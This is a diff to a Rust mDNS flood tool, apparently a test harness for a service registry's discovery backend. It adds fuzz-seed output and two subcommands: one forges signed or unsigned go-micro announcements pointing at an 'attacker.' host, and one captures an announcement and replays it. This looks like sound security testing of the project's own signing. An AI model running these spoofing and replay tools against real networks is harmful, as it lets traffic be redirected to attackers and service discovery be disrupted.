@@ -15,8 +15,8 @@
 //!
 //! `mdns_flood query NAME --from IP [--edns]` instead sends one go-micro PTR
 //! question for `NAME.micro.` from address IP (one the host was given, possibly
-//! off-link: a forged source), listens a second for the unicast answers and
-//! prints `<datagrams> <bytes>` received.
+//! off-link: a forged source), listens for the unicast answers until they stop
+//! (half a second of quiet, 5 s at most) and prints `<datagrams> <bytes>`.
 
 use std::net::{Ipv4Addr, SocketAddrV4, UdpSocket};
 use std::time::{Duration, Instant};
@@ -57,6 +57,10 @@ struct Cli {
     /// IPv4 address of the interface to multicast on.
     #[arg(long)]
     interface: Option<Ipv4Addr>,
+    /// Write one datagram of each kind (and a query) into this directory and
+    /// exit, sending nothing: seeds for the packet fuzz target.
+    #[arg(long)]
+    dump: Option<std::path::PathBuf>,
 }
 
 #[derive(clap::Subcommand)]
@@ -70,12 +74,68 @@ enum QueryCommand {
         #[arg(long)]
         edns: bool,
     },
+    /// One forged go-micro announcement (or goodbye with `--ttl 0`) of node
+    /// `id` of `service`, signed with `--key` if given (an attacker's key).
+    Forge {
+        #[arg(long)]
+        service: String,
+        #[arg(long)]
+        id: String,
+        #[arg(long)]
+        address: Ipv4Addr,
+        #[arg(long, default_value_t = 120)]
+        ttl: u32,
+        #[arg(long)]
+        key: Option<String>,
+    },
+    /// Captures the next announcement that names `id` and multicasts it
+    /// again `delay_ms` later (a replay).
+    Replay {
+        #[arg(long)]
+        id: String,
+        #[arg(long, default_value_t = 0)]
+        delay_ms: u64,
+    },
 }
 
 fn main() {
     let cli = Cli::parse();
-    if let Some(QueryCommand::Query { name, from, edns }) = &cli.query {
-        return query(name, *from, *edns, cli.interface);
+    match &cli.query {
+        Some(QueryCommand::Query { name, from, edns }) => {
+            return query(name, *from, *edns, cli.interface)
+        }
+        Some(QueryCommand::Forge {
+            service,
+            id,
+            address,
+            ttl,
+            key,
+        }) => return forge(service, id, *address, *ttl, key.as_deref(), cli.interface),
+        Some(QueryCommand::Replay { id, delay_ms }) => {
+            return replay(id, *delay_ms, cli.interface.expect("--interface"))
+        }
+        None => {}
+    }
+    if let Some(dir) = &cli.dump {
+        let mut rng = Rng(1);
+        for kind in [
+            "malformed",
+            "gomicro",
+            "dnssd",
+            "dnssd-burst",
+            "bombs",
+            "pointers",
+        ] {
+            let bytes = make(kind, &mut rng, "micro", cli.ttl);
+            std::fs::write(dir.join(format!("{kind}.bin")), bytes).expect("write a seed");
+        }
+        let mut query = Message::new(0, MessageType::Query, OpCode::Query);
+        query.queries = vec![hickory_proto::op::Query::query(
+            gomicro_names::service_name("greeter", "micro").unwrap(),
+            hickory_proto::rr::RecordType::PTR,
+        )];
+        std::fs::write(dir.join("query.bin"), query.to_vec().unwrap()).expect("write a seed");
+        return;
     }
     let seconds = cli.seconds.min(MAX_SECONDS);
     let total = (cli.rate * seconds).min(MAX_DATAGRAMS);
@@ -172,6 +232,7 @@ fn fake_gomicro(rng: &mut Rng, domain: &str, ttl: u32) -> Vec<u8> {
         service: service.clone(),
         version: "1".into(),
         endpoints: None,
+        signature: None,
     };
     let entry = EntryRecords {
         pointer: gomicro_names::service_name(&service, domain).unwrap(),
@@ -273,9 +334,12 @@ fn query(name: &str, from: Ipv4Addr, edns: bool, interface: Option<Ipv4Addr>) {
             SocketAddrV4::new(Ipv4Addr::new(224, 0, 0, 251), 5353),
         )
         .expect("send the question");
-    let deadline = Instant::now() + Duration::from_secs(1);
+    // Until answers stop for half a second (at most 5 s in all).
+    let started = Instant::now();
+    let mut deadline = started + Duration::from_secs(1);
     let (mut datagrams, mut total) = (0u64, 0usize);
     let mut buffer = vec![0u8; 65536];
+    let _ = socket2::SockRef::from(&socket).set_recv_buffer_size(4 << 20);
     while let Some(left) = deadline.checked_duration_since(Instant::now()) {
         socket
             .set_read_timeout(Some(left.max(Duration::from_millis(1))))
@@ -284,12 +348,103 @@ fn query(name: &str, from: Ipv4Addr, edns: bool, interface: Option<Ipv4Addr>) {
             Ok((len, _)) => {
                 datagrams += 1;
                 total += len;
+                let quiet = Instant::now() + Duration::from_millis(500);
+                deadline = deadline.max(quiet).min(started + Duration::from_secs(5));
             }
             Err(_) => break,
         }
     }
     println!("{datagrams} {total}");
 }
+
+fn multicast_socket(interface: Option<Ipv4Addr>) -> UdpSocket {
+    let socket = UdpSocket::bind("0.0.0.0:0").expect("a UDP socket");
+    if let Some(interface) = interface {
+        socket2::SockRef::from(&socket)
+            .set_multicast_if_v4(&interface)
+            .expect("the interface");
+    }
+    socket
+}
+
+fn forge(
+    service: &str,
+    id: &str,
+    address: Ipv4Addr,
+    ttl: u32,
+    key: Option<&str>,
+    interface: Option<Ipv4Addr>,
+) {
+    use microreg::backend::mdns::signing::{Signed, Signer};
+    let mut txt = GoMicroTxt {
+        metadata: Some(Default::default()),
+        service: service.into(),
+        version: "1.0.0".into(),
+        endpoints: Some(Vec::new()),
+        signature: None,
+    };
+    if let Some(key) = key {
+        let signer = Signer::new(&[key.to_string()]).unwrap().unwrap();
+        let node = microreg::Service::new(service, "1.0.0")
+            .with_node(microreg::Node::new(id, format!("{address}:666")));
+        txt.signature = Some(signer.sign(&Signed {
+            domain: "micro",
+            service: &node,
+            alive: ttl > 0,
+        }));
+    }
+    let entry = EntryRecords {
+        pointer: gomicro_names::service_name(service, "micro").unwrap(),
+        instance: gomicro_names::instance_name(id, service, "micro").unwrap(),
+        host: Name::from_ascii("attacker.").unwrap(),
+        port: 666,
+        addresses: vec![std::net::IpAddr::V4(address)],
+        txt: encode(&txt).unwrap(),
+    };
+    multicast_socket(interface)
+        .send_to(&message(entry.answer_records(ttl)), GROUP)
+        .expect("send the forgery");
+    println!("sent");
+}
+
+fn replay(id: &str, delay_ms: u64, interface: Ipv4Addr) {
+    let socket = socket2::Socket::new(
+        socket2::Domain::IPV4,
+        socket2::Type::DGRAM,
+        Some(socket2::Protocol::UDP),
+    )
+    .unwrap();
+    socket.set_reuse_address(true).unwrap();
+    socket.set_reuse_port(true).unwrap();
+    socket
+        .bind(&std::net::SocketAddr::from((Ipv4Addr::UNSPECIFIED, 5353)).into())
+        .unwrap();
+    socket.join_multicast_v4(GROUP.ip(), &interface).unwrap();
+    let socket: UdpSocket = socket.into();
+    socket
+        .set_read_timeout(Some(Duration::from_secs(30)))
+        .unwrap();
+    println!("listening");
+    let mut buffer = vec![0u8; 65536];
+    let captured = loop {
+        let (len, _) = socket
+            .recv_from(&mut buffer)
+            .expect("an announcement within 30 s");
+        let bytes = &buffer[..len];
+        let is_response = len > 2 && bytes[2] & 0x80 != 0;
+        if is_response && bytes.windows(id.len()).any(|w| w == id.as_bytes()) {
+            break bytes.to_vec();
+        }
+    };
+    println!("captured");
+    std::thread::sleep(Duration::from_millis(delay_ms));
+    multicast_socket(Some(interface))
+        .send_to(&captured, GROUP)
+        .expect("send the replay");
+    println!("replayed");
+}
+
+const GROUP: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(224, 0, 0, 251), 5353);
 
 fn message(answers: Vec<Record>) -> Vec<u8> {
     let mut message = Message::new(0, MessageType::Response, OpCode::Query);
